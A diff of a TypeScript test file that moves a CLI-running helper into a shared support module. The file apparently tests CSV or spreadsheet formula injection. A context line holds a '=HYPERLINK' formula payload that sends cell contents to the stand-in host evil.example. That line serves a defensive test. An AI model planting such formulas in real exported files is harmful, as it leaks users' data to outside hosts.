@@ -1,11 +1,10 @@
 import fs from 'node:fs';
+import { runCliWith } from '../support/cli';
 import os from 'node:os';
 import path from 'node:path';
-import { PassThrough } from 'node:stream';
 import { randomBytes } from 'node:crypto';
 import JSZip from 'jszip';
 import { parse } from 'csv-parse/sync';
-import { runCli } from '../../src/cli/program';
 import { ChatService } from '../../src/services/chat/chat-service';
 import { connectionStringFactory, storesOver } from '../../src/store/open-storage';
 import { Tables } from '../../src/store/tables';
@@ -20,15 +19,7 @@ const storage = storesOver(new Tables(connectionStringFactory(env.STORAGE_CONNEC
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'inj-'));
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Report")';
 
-async function cli(...args: string[]) {
-  const out = new PassThrough();
-  const err = new PassThrough();
-  const chunks: Buffer[] = [];
-  out.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
-  err.resume();
-  const code = await runCli(args, { out, err, env });
-  return { code, out: Buffer.concat(chunks).toString('utf8') };
-}
+const cli = (...args: string[]) => runCliWith(env, args);
 
 beforeAll(async () => {
   const file = path.join(tmp, 'plan.csv');
